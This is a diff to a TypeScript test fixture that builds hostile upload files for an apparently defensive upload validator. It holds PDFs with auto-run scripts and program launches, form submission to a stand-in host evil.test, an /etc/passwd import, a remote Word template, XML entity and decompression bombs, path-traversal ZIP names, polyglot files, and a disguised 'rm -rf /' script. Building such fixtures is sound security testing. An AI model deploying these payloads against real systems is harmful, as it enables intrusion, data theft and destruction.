@@ -4,7 +4,7 @@ import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
 import { IMPORT_COLUMNS } from '@vigilia/contract/user-import';
 import { aCompoundFile, aDoc, aDocx, aPdf, aZip, WORD_PARTS } from './documents.ts';
 import type { FilePart } from './multipart.ts';
-import { anSvgWithScript, aPicture, aPixelBomb, aWebPage, aPngOf } from './pictures.ts';
+import { anSvgWithScript, aPicture, aPixelBomb, aPngOf, aWebPage } from './pictures.ts';
 import { aWorkbook } from './workbooks.ts';
 
 export interface HostileFile extends FilePart {
@@ -75,7 +75,9 @@ const aPdfWith = (entry: string, ...objects: readonly (string | Buffer)[]): Buff
     .map((object, index) => `${10 + index} 0 obj\n${object.toString('latin1')}\nendobj\n`)
     .join('');
   return Buffer.from(
-    text.replace('<</Type/Catalog', () => `<</Type/Catalog${entry}`).replace('\nxref\n', () => `\n${added}xref\n`),
+    text
+      .replace('<</Type/Catalog', () => `<</Type/Catalog${entry}`)
+      .replace('\nxref\n', () => `\n${added}xref\n`),
     'latin1',
   );
 };
@@ -91,23 +93,89 @@ const ACTION = '<</Type/Action/S/JavaScript/JS(app.alert(1))>>';
 
 const activePdfs = (): HostileFile[] => [
   file('a PDF that runs a script when it is opened', 'x.pdf', aPdfWith(`/OpenAction${ACTION}`)),
-  file('a PDF with its script spelt in codes', 'x.pdf', aPdfWith('/OpenAction<</S/J#61va#53cript/JS(app.alert(1))>>')),
-  file('a PDF with named scripts', 'x.pdf', aPdfWith('/Names<</JavaScript 10 0 R>>', '<</Names[(a) 11 0 R]>>', ACTION)),
+  file(
+    'a PDF with its script spelt in codes',
+    'x.pdf',
+    aPdfWith('/OpenAction<</S/J#61va#53cript/JS(app.alert(1))>>'),
+  ),
+  file(
+    'a PDF with named scripts',
+    'x.pdf',
+    aPdfWith('/Names<</JavaScript 10 0 R>>', '<</Names[(a) 11 0 R]>>', ACTION),
+  ),
   file('a PDF that starts a program', 'x.pdf', aPdfWith('/OpenAction<</S/Launch/F(cmd.exe)>>')),
-  file('a PDF that starts a program for a page', 'x.pdf', aPdfWith('/AA<</O<</S /Launch /Win <</F (calc.exe)>>>>>>')),
-  file('a PDF that carries a file', 'x.pdf', aPdfWith('/Names<</EmbeddedFiles 10 0 R>>', streamOf('/Type/EmbeddedFile', Buffer.from('MZ')))),
+  file(
+    'a PDF that starts a program for a page',
+    'x.pdf',
+    aPdfWith('/AA<</O<</S /Launch /Win <</F (calc.exe)>>>>>>'),
+  ),
+  file(
+    'a PDF that carries a file',
+    'x.pdf',
+    aPdfWith('/Names<</EmbeddedFiles 10 0 R>>', streamOf('/Type/EmbeddedFile', Buffer.from('MZ'))),
+  ),
   file('a PDF that sends a form', 'x.pdf', aPdfWith('/OpenAction<</S/SubmitForm/F(https://evil.test)>>')),
   file('a PDF that reads in data', 'x.pdf', aPdfWith('/OpenAction<</S/ImportData/F(/etc/passwd)>>')),
-  file('a PDF that opens another', 'x.pdf', aPdfWith('/OpenAction<</S/GoToR/F(\\\\\\\\evil.test\\\\a.pdf)/D[0]>>')),
-  file('a PDF with an XFA form', 'x.pdf', aPdfWith('/AcroForm<</XFA 10 0 R>>', streamOf('', Buffer.from('<xdp:xdp/>')))),
+  file(
+    'a PDF that opens another',
+    'x.pdf',
+    aPdfWith('/OpenAction<</S/GoToR/F(\\\\\\\\evil.test\\\\a.pdf)/D[0]>>'),
+  ),
+  file(
+    'a PDF with an XFA form',
+    'x.pdf',
+    aPdfWith('/AcroForm<</XFA 10 0 R>>', streamOf('', Buffer.from('<xdp:xdp/>'))),
+  ),
   file('a PDF with rich media', 'x.pdf', aPdfWith('', '<</Type/Annot/Subtype/RichMedia>>')),
-  file('a PDF with its script in an object stream', 'x.pdf', aPdfWith('/OpenAction 11 0 R', objectStream(ACTION, deflateSync, '/Filter/FlateDecode'))),
-  file('a PDF with its script in an object stream that is not packed', 'x.pdf', aPdfWith('/OpenAction 11 0 R', objectStream(ACTION, (bytes) => bytes, ''))),
-  file('a PDF with an object stream packed in a way nobody uses', 'x.pdf', aPdfWith('/OpenAction 11 0 R', objectStream(ACTION, (bytes) => Buffer.from(`${bytes.toString('hex')}>`), '/Filter/ASCIIHexDecode'))),
-  file('a PDF with an object stream that unpacks to too much', 'x.pdf', aPdfWith('/OpenAction 11 0 R', objectStream(' '.repeat(60 * MEBIBYTE), deflateSync, '/Filter/FlateDecode'))),
-  file('a PDF that is encrypted, so that nobody can look into it', 'x.pdf', Buffer.from(aPdf().toString('latin1').replace('trailer<<', () => 'trailer<</Encrypt 9 0 R'), 'latin1')),
-  file('a PDF that is a page too', 'x.pdf', Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.from(PAGE), aPdf()])),
-  file('a PDF that is a ZIP too', 'x.pdf', Buffer.concat([aPdf(), aZip({ 'a.exe': 'MZ' }), Buffer.from('\nstartxref\n0\n%%EOF')])),
+  file(
+    'a PDF with its script in an object stream',
+    'x.pdf',
+    aPdfWith('/OpenAction 11 0 R', objectStream(ACTION, deflateSync, '/Filter/FlateDecode')),
+  ),
+  file(
+    'a PDF with its script in an object stream that is not packed',
+    'x.pdf',
+    aPdfWith(
+      '/OpenAction 11 0 R',
+      objectStream(ACTION, (bytes) => bytes, ''),
+    ),
+  ),
+  file(
+    'a PDF with an object stream packed in a way nobody uses',
+    'x.pdf',
+    aPdfWith(
+      '/OpenAction 11 0 R',
+      objectStream(ACTION, (bytes) => Buffer.from(`${bytes.toString('hex')}>`), '/Filter/ASCIIHexDecode'),
+    ),
+  ),
+  file(
+    'a PDF with an object stream that unpacks to too much',
+    'x.pdf',
+    aPdfWith(
+      '/OpenAction 11 0 R',
+      objectStream(' '.repeat(60 * MEBIBYTE), deflateSync, '/Filter/FlateDecode'),
+    ),
+  ),
+  file(
+    'a PDF that is encrypted, so that nobody can look into it',
+    'x.pdf',
+    Buffer.from(
+      aPdf()
+        .toString('latin1')
+        .replace('trailer<<', () => 'trailer<</Encrypt 9 0 R'),
+      'latin1',
+    ),
+  ),
+  file(
+    'a PDF that is a page too',
+    'x.pdf',
+    Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.from(PAGE), aPdf()]),
+  ),
+  file(
+    'a PDF that is a ZIP too',
+    'x.pdf',
+    Buffer.concat([aPdf(), aZip({ 'a.exe': 'MZ' }), Buffer.from('\nstartxref\n0\n%%EOF')]),
+  ),
 ];
 
 const polyglots = async (): Promise<HostileFile[]> => {
@@ -116,7 +184,13 @@ const polyglots = async (): Promise<HostileFile[]> => {
   const comment = Buffer.from(PAGE);
   const length = Buffer.alloc(2);
   length.writeUInt16BE(comment.length + 2);
-  const withComment = Buffer.concat([jpeg.subarray(0, 2), Buffer.from([0xff, 0xfe]), length, comment, jpeg.subarray(2)]);
+  const withComment = Buffer.concat([
+    jpeg.subarray(0, 2),
+    Buffer.from([0xff, 0xfe]),
+    length,
+    comment,
+    jpeg.subarray(2),
+  ]);
   return [
     file('a GIF that is a script too', 'x.gif', Buffer.from(`GIF89a/*${'a'.repeat(40)}*/=1;alert(1)//;`)),
     file('a JPEG that is a ZIP too', 'x.jpg', Buffer.concat([jpeg, aZip({ 'a.exe': 'MZ' })])),
@@ -144,24 +218,48 @@ const aBook = (xml: string) => aWorkbook({ rows: '', more: { 'xl/worksheets/shee
 const hostileTables = (): HostileFile[] => {
   const bomb = Buffer.alloc(80 * MEBIBYTE, 0x20);
   const headings = Object.values(IMPORT_COLUMNS);
-  const row = (cells: readonly string[]) => `<row>${cells.map((cell) => `<c t="str"><v>${cell}</v></c>`).join('')}</row>`;
+  const row = (cells: readonly string[]) =>
+    `<row>${cells.map((cell) => `<c t="str"><v>${cell}</v></c>`).join('')}</row>`;
   const person = ['Ana', 'Ríos', 'ana@x.test', '300', '', '1'];
   return [
     file('a workbook of laughs', 'x.xlsx', aBook(sheet(LAUGHS, '&j;'))),
     file('a workbook that reads a file', 'x.xlsx', aBook(sheet(EXTERNAL, '&a;'))),
-    file('a workbook whose shared texts are laughs', 'x.xlsx', aWorkbook({ rows: row(headings), more: { 'xl/sharedStrings.xml': `${LAUGHS}<sst><si><t>&j;</t></si></sst>` } })),
-    file('a workbook that unpacks to too much', 'x.xlsx', aWorkbook({ rows: row(headings), more: { 'xl/sharedStrings.xml': bomb } })),
+    file(
+      'a workbook whose shared texts are laughs',
+      'x.xlsx',
+      aWorkbook({
+        rows: row(headings),
+        more: { 'xl/sharedStrings.xml': `${LAUGHS}<sst><si><t>&j;</t></si></sst>` },
+      }),
+    ),
+    file(
+      'a workbook that unpacks to too much',
+      'x.xlsx',
+      aWorkbook({ rows: row(headings), more: { 'xl/sharedStrings.xml': bomb } }),
+    ),
     file('a workbook with deep XML', 'x.xlsx', aBook(sheet('', '<a>'.repeat(200_000)))),
-    file('a workbook with a row far down', 'x.xlsx', aWorkbook({ rows: '<row r="99999999"><c t="str"><v>a</v></c></row>' })),
+    file(
+      'a workbook with a row far down',
+      'x.xlsx',
+      aWorkbook({ rows: '<row r="99999999"><c t="str"><v>a</v></c></row>' }),
+    ),
     file('a workbook without a sheet', 'x.xlsx', aZip({ 'xl/workbook.xml': '<workbook/>' })),
-    file('a ZIP of ZIPs', 'x.xlsx', aZip({ 'a.zip': aZip({ 'b.zip': aZip({ c: Buffer.alloc(MEBIBYTE) }) }) })),
+    file(
+      'a ZIP of ZIPs',
+      'x.xlsx',
+      aZip({ 'a.zip': aZip({ 'b.zip': aZip({ c: Buffer.alloc(MEBIBYTE) }) }) }),
+    ),
     file('a ZIP with names that climb', 'x.xlsx', aZip({ '../../x': 'a', '/etc/x': 'b' })),
     file('gzip', 'x.xlsx', gzipSync(bomb)),
     file('gzip as text', 'x.csv', gzipSync(bomb)),
     file('text with a NUL', 'x.csv', `${headings.join(';')}\r\nA\0na;b;c;d;e;f`),
     file('a quote that never ends', 'x.csv', `"${'a;'.repeat(100_000)}`),
     file('a line of a million columns', 'x.csv', ';'.repeat(MEBIBYTE)),
-    file('more lines than anybody has members', 'x.csv', `${headings.join(';')}\r\n${`${person.join(';')}\r\n`.repeat(20_000)}`),
+    file(
+      'more lines than anybody has members',
+      'x.csv',
+      `${headings.join(';')}\r\n${`${person.join(';')}\r\n`.repeat(20_000)}`,
+    ),
     file('the old format of Excel', 'x.xls', aCompoundFile('Workbook')),
     file('the old format under the new name', 'x.xlsx', aCompoundFile('Workbook')),
     file('a page of Excel', 'x.csv', aPicturelike()),
@@ -184,9 +282,24 @@ const hostileWord = (): HostileFile[] => {
     file('Word with a control', 'x.docx', withPart('word/activeX/activeX1.bin')),
     file('Word with an object of another program', 'x.docx', withPart('word/embeddings/oleObject1.bin')),
     file('Word with a program', 'x.docx', withPart('word/media/a.exe')),
-    file('Word with a template from elsewhere', 'x.docx', withPart('word/_rels/settings.xml.rels', relations('https://evil.test/a.dotm', ' TargetMode="External"'))),
-    file('Word that unpacks to too much', 'x.docx', aZip({ ...WORD_PARTS, 'word/document.xml': Buffer.alloc(60 * MEBIBYTE, 0x20) })),
-    file('Word that lies of its size', 'x.docx', aZip({ ...WORD_PARTS, 'word/document.xml': Buffer.alloc(60 * MEBIBYTE, 0x20) }, 10)),
+    file(
+      'Word with a template from elsewhere',
+      'x.docx',
+      withPart(
+        'word/_rels/settings.xml.rels',
+        relations('https://evil.test/a.dotm', ' TargetMode="External"'),
+      ),
+    ),
+    file(
+      'Word that unpacks to too much',
+      'x.docx',
+      aZip({ ...WORD_PARTS, 'word/document.xml': Buffer.alloc(60 * MEBIBYTE, 0x20) }),
+    ),
+    file(
+      'Word that lies of its size',
+      'x.docx',
+      aZip({ ...WORD_PARTS, 'word/document.xml': Buffer.alloc(60 * MEBIBYTE, 0x20) }, 10),
+    ),
     file('old Word with macros', 'x.doc', Buffer.concat([aDoc(), Buffer.from('_VBA_PROJECT', 'utf16le')])),
     file('an installer', 'x.doc', aCompoundFile('Installer')),
   ];
@@ -197,16 +310,40 @@ const pixelBombs = (): HostileFile[] => [
   file('a PNG of 2,147,483,647 × 1 pixels', 'x.png', aPixelBomb(2 ** 31 - 1, 1)),
   file('a PNG of no pixels', 'x.png', aPixelBomb(0, 0)),
   file('a PNG of 20,000 × 20,000 pixels that are there', 'x.png', aPngOf(20_000, 20_000)),
-  file('a GIF of 65,535 × 65,535 pixels', 'x.gif', Buffer.from('474946383961ffffffff800000000000ffffff2c00000000ffffffff000002024401003b', 'hex')),
-  file('a WebP that claims to be huge', 'x.webp', Buffer.concat([Buffer.from('RIFF\xff\xff\xff\x7fWEBPVP8X\n\0\0\0\0\0\0\0', 'latin1'), Buffer.alloc(6, 0xff)])),
+  file(
+    'a GIF of 65,535 × 65,535 pixels',
+    'x.gif',
+    Buffer.from('474946383961ffffffff800000000000ffffff2c00000000ffffffff000002024401003b', 'hex'),
+  ),
+  file(
+    'a WebP that claims to be huge',
+    'x.webp',
+    Buffer.concat([
+      Buffer.from('RIFF\xff\xff\xff\x7fWEBPVP8X\n\0\0\0\0\0\0\0', 'latin1'),
+      Buffer.alloc(6, 0xff),
+    ]),
+  ),
   file('an SVG of laughs', 'x.svg', `${LAUGHS}<svg xmlns="http://www.w3.org/2000/svg">&j;</svg>`),
 ];
 
 const svgs = (): HostileFile[] => [
-  ...disguised('an SVG with a script', anSvgWithScript, ['svg', 'png', 'jpg', 'webp', 'gif', 'pdf', 'docx', 'csv']),
+  ...disguised('an SVG with a script', anSvgWithScript, [
+    'svg',
+    'png',
+    'jpg',
+    'webp',
+    'gif',
+    'pdf',
+    'docx',
+    'csv',
+  ]),
   file('an SVG with a script that says it is a PNG', 'x.png', anSvgWithScript, 'image/png'),
   file('an SVG that loads', 'x.svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
-  file('an SVG that reads a file', 'x.svg', `${EXTERNAL}<svg xmlns="http://www.w3.org/2000/svg"><text>&a;</text></svg>`),
+  file(
+    'an SVG that reads a file',
+    'x.svg',
+    `${EXTERNAL}<svg xmlns="http://www.w3.org/2000/svg"><text>&a;</text></svg>`,
+  ),
   file('an SVG behind a mark', 'x.jpg', Buffer.concat([Buffer.from('\ufeff'), anSvgWithScript])),
   file('an SVG that is packed', 'x.svgz', gzipSync(anSvgWithScript)),
 ];
@@ -217,12 +354,28 @@ const others = (): HostileFile[] => [
   ...disguised('zeros', Buffer.alloc(5000), ['jpg', 'png', 'pdf', 'doc', 'docx', 'csv', 'xlsx']),
   ...disguised('chance', randomBytes(5000), ['jpg', 'png', 'pdf', 'doc', 'docx', 'xlsx']),
   ...disguised('a page', aWebPage, ['jpg', 'png', 'pdf', 'doc', 'docx', 'xlsx', 'html']),
-  ...disguised('a program of Windows', Buffer.from(`MZ${'\0'.repeat(500)}PE\0\0`), ['jpg', 'pdf', 'docx', 'xlsx', 'exe']),
-  ...disguised('a program of Linux', Buffer.from(`\x7fELF${'\0'.repeat(500)}`, 'latin1'), ['jpg', 'pdf', 'xlsx', 'sh']),
+  ...disguised('a program of Windows', Buffer.from(`MZ${'\0'.repeat(500)}PE\0\0`), [
+    'jpg',
+    'pdf',
+    'docx',
+    'xlsx',
+    'exe',
+  ]),
+  ...disguised('a program of Linux', Buffer.from(`\x7fELF${'\0'.repeat(500)}`, 'latin1'), [
+    'jpg',
+    'pdf',
+    'xlsx',
+    'sh',
+  ]),
   ...disguised('a shell script', '#!/bin/sh\nrm -rf /\n', ['jpg', 'pdf', 'docx', 'sh']),
   ...disguised('a ZIP', aZip({ a: 'b' }), ['jpg', 'png', 'pdf', 'docx', 'xlsx', 'zip']),
   ...disguised('bare deflated bytes', deflateRawSync(Buffer.alloc(MEBIBYTE)), ['jpg', 'pdf', 'xlsx']),
-  ...disguised('a video', Buffer.from('\0\0\0\x18ftypmp42\0\0\0\0mp42isom', 'latin1'), ['jpg', 'png', 'avif', 'pdf']),
+  ...disguised('a video', Buffer.from('\0\0\0\x18ftypmp42\0\0\0\0mp42isom', 'latin1'), [
+    'jpg',
+    'png',
+    'avif',
+    'pdf',
+  ]),
   ...disguised('a PDF', aPdf(), ['jpg', 'doc', 'docx', 'xlsx', 'csv', 'html']),
   ...disguised('Word', aDocx(), ['jpg', 'pdf', 'doc', 'xlsx', 'csv']),
   ...disguised('old Word', aDoc(), ['jpg', 'pdf', 'docx', 'xlsx', 'csv']),
@@ -245,8 +398,10 @@ export async function hostileFiles(): Promise<HostileFile[]> {
     ...cut('a PDF', 'x.pdf', aPdf()),
     ...cut('Word', 'x.docx', aDocx()),
     ...cut('a workbook', 'x.xlsx', table),
-    ...nastyNames('jpg').map(([what, name]) => file(what, name, jpeg, 'image/jpeg')),
-    ...nastyNames('pdf').map(([what, name]) => file(what, name, aPdf(), 'application/pdf')),
-    ...nastyNames('csv').map(([what, name]) => file(what, name, 'Nombre;Apellido\r\nAna;Ríos', 'text/csv')),
+    ...nastyNames('jpg').map(([what, name]) => file(`jpg: ${what}`, name, jpeg, 'image/jpeg')),
+    ...nastyNames('pdf').map(([what, name]) => file(`pdf: ${what}`, name, aPdf(), 'application/pdf')),
+    ...nastyNames('csv').map(([what, name]) =>
+      file(`csv: ${what}`, name, 'Nombre;Apellido\r\nAna;Ríos', 'text/csv'),
+    ),
   ];
 }
